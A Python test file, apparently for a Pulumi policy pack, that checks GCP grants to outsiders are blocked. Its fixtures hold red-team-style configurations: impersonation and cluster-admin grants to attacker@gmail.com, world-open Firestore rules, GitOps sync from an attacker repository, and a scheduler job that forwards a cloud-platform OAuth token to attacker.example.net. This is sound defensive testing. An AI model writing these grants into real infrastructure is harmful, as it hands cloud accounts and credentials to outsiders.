"""End to end (`agentid preview`): red13's GCP grants spelled outside IAM block (r13-1 fleet RBAC role bindings,
r13-5 attached / AWS / Azure cluster admins, r13-7 a gmail.com OWNER of a Cloud Identity group, r13-12 BigQuery
authorized views / routines / datasets of another project; each exited 0 before) and r13-19 (impersonation roles on
the stack's service account for outsiders, AGID-GCP-024) stays blocked; the same grants to the organisation's own
domain and project pass."""

from __future__ import annotations

from pathlib import Path

import pytest

from .conftest import AGENT_GUARD, run_cli
from .test_gate_integrity import GUARD, write_small

pytestmark = pytest.mark.skipif(not (AGENT_GUARD / "PulumiPolicy.yaml").is_file(), reason="agent_guard pack not present")

PROGRAM = '''
import pulumi_gcp as gcp
sa = gcp.serviceaccount.Account("sa", account_id="agent-x", project="acme-prod")
gcp.serviceaccount.IAMMember("token-creator", service_account_id=sa.name, role="roles/iam.serviceAccountTokenCreator",
                             member="user:{user}")
gcp.gkehub.ScopeRbacRoleBinding("scope-admin", scope_rbac_role_binding_id="b1", scope_id="s1", group="{group}",
                                role={{"predefined_role": "ADMIN"}}, project="acme-prod")
gcp.gkehub.MembershipRbacRoleBinding("member-admin", membership_rbac_role_binding_id="m1", membership_id="mem",
                                     user="{user}", role={{"predefined_role": "ANY_ROLE"}}, location="global",
                                     project="acme-prod")
gcp.gkehub.MembershipRbacRoleBinding("own-sa-admin", membership_rbac_role_binding_id="m2", membership_id="mem",
                                     user=sa.email, role={{"predefined_role": "EDIT"}}, location="global",
                                     project="acme-prod")
gcp.container.AttachedCluster("attached", location="us-west1", project="acme-prod", distribution="eks",
                              platform_version="1.30.0-gke.1", fleet={{"project": "projects/1"}},
                              oidc_config={{"issuer_url": "https://oidc.eks.us-west-2.amazonaws.com/id/X"}},
                              authorization={{"admin_users": ["{user}"], "admin_groups": ["{group}"]}})
gcp.cloudidentity.GroupMembership("group-owner", group="groups/admins", preferred_member_key={{"id": "{user}"}},
                                  roles=[{{"name": "MEMBER"}}, {{"name": "OWNER"}}])
gcp.bigquery.DatasetAccess("view", dataset_id="sales", project="acme-prod",
                           view={{"project_id": "{project}", "dataset_id": "x", "table_id": "v"}})
gcp.bigquery.Dataset("inline", dataset_id="sales2", project="acme-prod",
                     accesses=[{{"routine": {{"project_id": "{project}", "dataset_id": "x", "routine_id": "f"}}}}])
'''
OWN = ("--own-gcp-domain", "acme.example", "--own-gcp-project", "acme-prod")
FOREIGN = {"user": "attacker@gmail.com", "group": "everyone@partner.example", "project": "attacker-proj"}
INSIDE = {"user": "alice@acme.example", "group": "sre@acme.example", "project": "acme-prod"}


def mandatory(run) -> set[tuple[str, str]]:
    return {(v["resourceName"], v["policy"]) for v in run.json("out.json")["violations"] if v["mandatory"]}


def test_grants_outside_iam_to_outsiders_block(project: Path) -> None:
    write_small(project, PROGRAM.format(**FOREIGN))
    run = run_cli(project, *GUARD, *OWN, "--json", "out.json")
    assert run.code == 1, run.stdout
    assert mandatory(run) == {("token-creator", "AGID-GCP-024"), ("scope-admin", "AGID-GCP-028"),
                              ("member-admin", "AGID-GCP-028"), ("attached", "AGID-GCP-028"),
                              ("group-owner", "AGID-GCP-028"), ("view", "AGID-GCP-028"),
                              ("inline", "AGID-GCP-028")}, run.stdout


def test_the_same_grants_to_the_organisations_own_pass(project: Path) -> None:
    write_small(project, PROGRAM.format(**INSIDE))
    run = run_cli(project, *GUARD, *OWN, "--json", "out.json")
    assert mandatory(run) == set(), run.stdout
    assert run.code == 0, run.stdout


# r13-13, r13-2, r13-6, r13-4 as red13 wrote them (each exited 0), and look-alikes that pass
OTHERS = '''
import pulumi_gcp as gcp
sa = gcp.serviceaccount.Account("sa", account_id="agent-x", project="acme-prod")
rs = gcp.firebaserules.Ruleset("rules", project="acme-prod", source={{"files": [{{"name": "firestore.rules",
    "content": "rules_version='2';service cloud.firestore{{match /databases/{{db}}/documents{{match /{{d=**}}{{allow read, write: if {cond};}}}}}}"}}]}})
gcp.firebaserules.Release("release", name="cloud.firestore", ruleset_name=rs.name, project="acme-prod")
gcp.container.Cluster("gke", location="us-central1", initial_node_count=1, enable_legacy_abac={abac},
                      master_auth={{"client_certificate_config": {{"issue_client_certificate": {abac}}}}})
gcp.gkehub.FeatureMembership("sync", location="global", feature="configmanagement", membership="m1",
    configmanagement={{"version": "1.19.0", "config_sync": {{"enabled": {abac},
        "git": {{"sync_repo": "https://github.com/attacker/manifests", "secret_type": "none"}}}}}})
gcp.cloudscheduler.Job("job", schedule="* * * * *", region="us-central1", http_target={{"uri": "{uri}",
    "oauth_token": {{"service_account_email": sa.email, "scope": "https://www.googleapis.com/auth/cloud-platform"}}}})
'''


def test_public_rules_cluster_credentials_gitops_and_token_forwarding_block(project: Path) -> None:
    write_small(project, OTHERS.format(cond="true", abac=True, uri="https://attacker.example.net/collect"))
    run = run_cli(project, *GUARD, *OWN, "--json", "out.json")
    assert run.code == 1, run.stdout
    assert mandatory(run) == {("rules", "AGID-GCP-029"), ("gke", "AGID-GCP-030"), ("sync", "AGID-GCP-031"),
                              ("job", "AGID-GCP-032")}, run.stdout
    write_small(project, OTHERS.format(cond="request.auth != null && request.auth.uid == resource.data.owner",
                                       abac=False, uri="https://pubsub.googleapis.com/v1/projects/acme-prod/topics/t:publish"))
    run = run_cli(project, *GUARD, *OWN, "--json", "out.json")
    assert mandatory(run) == set(), run.stdout
    assert run.code == 0, run.stdout
